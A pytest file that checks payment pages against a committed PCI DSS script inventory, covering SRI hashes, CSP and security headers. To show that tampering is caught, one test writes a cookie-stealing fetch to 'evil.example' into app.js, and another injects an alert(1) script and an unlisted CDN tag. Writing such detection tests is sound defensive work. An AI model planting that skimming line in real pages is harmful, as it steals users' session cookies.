"""PCI DSS 6.4.3 / 11.6.1: each payment page's scripts and headers match the reviewed inventory."""
from __future__ import annotations

import shutil

import pytest

from app.pci_inventory import (
    hash_differences,
    live_inventory,
    load_committed,
    required_csp,
    script_hashes,
    scripts_on,
)
from app.security_headers import origin_of
from tests.flows import add, login, order_and_start

UPDATE = "update docs/pci-script-inventory.json after review"


@pytest.fixture
def payment_pages(app, people) -> dict[str, str]:
    """A buyer's client and the three payment pages of an order paid by embedded card form."""
    client = app.test_client()
    login(client, "buyer")
    add(client, people["mug"])
    order_id, _ = order_and_start(client, "EUR", "embedded")
    return client, {"/checkout/<order_id>": f"/checkout/{order_id}",
                    "/checkout/<order_id>/card": f"/checkout/{order_id}/card",
                    "/checkout/<order_id>/return": f"/checkout/{order_id}/return"}


def inventory_problems(page: dict, html: str, headers, static_hashes: dict[str, str],
                       psp_origin: str, script_origin: str = "") -> list[str]:
    """Every way a rendered page differs from its inventory entry."""
    problems = []
    # A PSP's versioned script is listed on "{psp_origin}" with its pinned hash in "integrity".
    listed = [((s.get("src") or s.get("inline")).replace("{psp_origin}", psp_origin),
               s.get("sha384") or s.get("integrity")) for s in page["scripts"]]
    found = [(s.get("src") or s.get("id"), s.get("integrity")) for s in scripts_on(html)]
    if [name for name, _ in found] != [name for name, _ in listed]:
        problems.append(f"scripts {[n for n, _ in found]} != inventory {[n for n, _ in listed]}")
    for (name, reviewed), (_, integrity) in zip(listed, found):
        if name.startswith("/static/"):
            actual = static_hashes.get(name.removeprefix("/static/"))
            if not (reviewed == integrity == actual):
                problems.append(f"{name}: reviewed {reviewed}, integrity attribute {integrity}, "
                                f"file {actual}")
        elif any(s.get("src", "").startswith("{psp_origin}") and
                 s["src"].replace("{psp_origin}", psp_origin) == name for s in page["scripts"]):
            # The PSP's versioned script (card fields): pinned, and the tag must carry the pin.
            if not (reviewed and integrity == reviewed):
                problems.append(f"{name}: reviewed {reviewed}, integrity attribute {integrity}")
        elif name.startswith(("https://", "http://")):
            # A PSP's script from its own origin (stripe.js): no SRI is possible, so the
            # inventory must say why and how its integrity is assured instead (PCI DSS 6.4.3).
            entry = next(s for s in page["scripts"] if s.get("src") == name)
            if not entry.get("no_sri_justification") or integrity is not None:
                problems.append(f"{name}: PSP script without a justification for no SRI")
        elif reviewed is not None or integrity is not None:
            problems.append(f"{name}: inline data block with a hash or integrity attribute")
    for tag in scripts_on(html):
        if "src" not in tag and tag.get("type") != "application/json":
            problems.append(f"executable inline script {tag}")
    csp = {d.strip() for d in headers.get("Content-Security-Policy", "").split(";")}
    nonce = next((d.split("'nonce-")[1].split("'")[0] for d in csp if "'nonce-" in d), "")
    missing = {d.replace("{nonce}", nonce)
               for d in required_csp(page, psp_origin, script_origin)} - csp
    if missing:
        problems.append(f"CSP lacks {sorted(missing)}")
    for name, value in page["headers"].items():
        if name != "Content-Security-Policy" and headers.get(name) != value:
            problems.append(f"header {name}: {headers.get(name)!r} != {value!r}")
    return [f"script inventory changed: {page['path']}: {p}; {UPDATE}" for p in problems]


def test_every_payment_page_matches_the_committed_inventory(app, payment_pages):
    client, urls = payment_pages
    inventory = load_committed()
    # The Braintree Drop-in and Stripe Payment Element pages need their PSP's route: checked in
    # tests/blueprints/test_bp_{braintree_checkout,stripe_element}.py with inventory_problems.
    # The card fields page needs a fields payment: tests/security/test_sec_card_fields_controls.py.
    pages = [p for p in inventory["pages"] if p["path"] not in (
        "/checkout/<order_id>/braintree", "/checkout/<order_id>/stripe",
        "/checkout/<order_id>/fields")]
    assert {page["path"] for page in pages} == set(urls)
    hashes = script_hashes(app.static_folder)
    psp_origin = origin_of(app.config["SANDBOX_PUBLIC_URL"])
    for page in pages:
        response = client.get(urls[page["path"]])
        assert response.status_code == 200, page["path"]
        problems = inventory_problems(page, response.get_data(as_text=True), response.headers,
                                      hashes, psp_origin)
        assert not problems, "\n".join(problems)


def test_the_card_page_frames_the_psp_and_the_inventory_lists_its_origin(app, payment_pages):
    client, urls = payment_pages
    html = client.get(urls["/checkout/<order_id>/card"]).get_data(as_text=True)
    psp_origin = origin_of(app.config["SANDBOX_PUBLIC_URL"])
    assert f'src="{psp_origin}/' in html
    checkout, card, returned = load_committed()["pages"][:3]
    assert {f"frame-src {psp_origin}", "form-action 'self'",
            "frame-ancestors 'none'"} <= required_csp(card, psp_origin)
    # The checkout form's 303 goes to the PSP's hosted page; nothing else frames or posts to it.
    assert {"frame-src 'none'", f"form-action 'self' {psp_origin}"} <= required_csp(
        checkout, psp_origin)
    assert {"frame-src 'none'", "form-action 'self'"} <= required_csp(returned, psp_origin)


def test_a_changed_script_an_added_tag_or_a_dropped_header_is_reported(app, payment_pages):
    client, urls = payment_pages
    page = load_committed()["pages"][0]
    response = client.get(urls["/checkout/<order_id>"])
    html, headers = response.get_data(as_text=True), dict(response.headers)
    hashes = script_hashes(app.static_folder)
    psp_origin = origin_of(app.config["SANDBOX_PUBLIC_URL"])
    assert inventory_problems(page, html, headers, hashes, psp_origin) == []

    changed = inventory_problems(page, html, headers, hashes | {"js/app.js": "sha384-other"},
                                 psp_origin)
    assert len(changed) == 1 and "/static/js/app.js" in changed[0] and UPDATE in changed[0]
    added = html.replace("</head>", '<script src="https://cdn.example/x.js"></script></head>')
    assert "cdn.example" in inventory_problems(page, added, headers, hashes, psp_origin)[0]
    inline = html.replace("</body>", "<script>alert(1)</script></body>")
    assert any("executable inline" in p
               for p in inventory_problems(page, inline, headers, hashes, psp_origin))
    loose = headers | {"Content-Security-Policy": headers["Content-Security-Policy"].replace(
        "frame-ancestors 'none'", "frame-ancestors *")}
    assert "frame-ancestors 'none'" in inventory_problems(page, html, loose, hashes, psp_origin)[0]
    no_sniff = {k: v for k, v in headers.items() if k != "X-Content-Type-Options"}
    assert "X-Content-Type-Options" in inventory_problems(page, html, no_sniff, hashes,
                                                          psp_origin)[0]


def test_script_tags_carry_the_served_files_sri_hash(app, client, people):
    html = client.get("/").get_data(as_text=True)
    hashes = script_hashes(app.static_folder)
    tags = [t for t in scripts_on(html) if "src" in t]
    assert tags and all(t["integrity"] == hashes[t["src"].removeprefix("/static/")]
                        for t in tags)


def test_cli_prints_the_inventory_and_passes_when_hashes_match(app):
    result = app.test_cli_runner().invoke(args=["pci", "inventory"])
    assert result.exit_code == 0, result.output
    assert "/checkout/<order_id>/card" in result.output
    assert script_hashes(app.static_folder)["js/app.js"] in result.output


def test_cli_exits_1_naming_a_script_changed_on_disk(app, tmp_path, monkeypatch):
    shutil.copytree(app.static_folder, tmp_path / "static")
    with open(tmp_path / "static" / "js" / "app.js", "a") as js:
        js.write("\nfetch('https://evil.example/?c=' + document.cookie);\n")
    monkeypatch.setattr(app, "static_folder", str(tmp_path / "static"))
    result = app.test_cli_runner().invoke(args=["pci", "inventory"])
    assert result.exit_code == 1
    assert "script inventory changed: /checkout/<order_id>: /static/js/app.js" in result.output


def test_live_inventory_equals_the_committed_one_today(app):
    committed = load_committed()
    assert hash_differences(committed, live_inventory(committed, app.static_folder)) == []
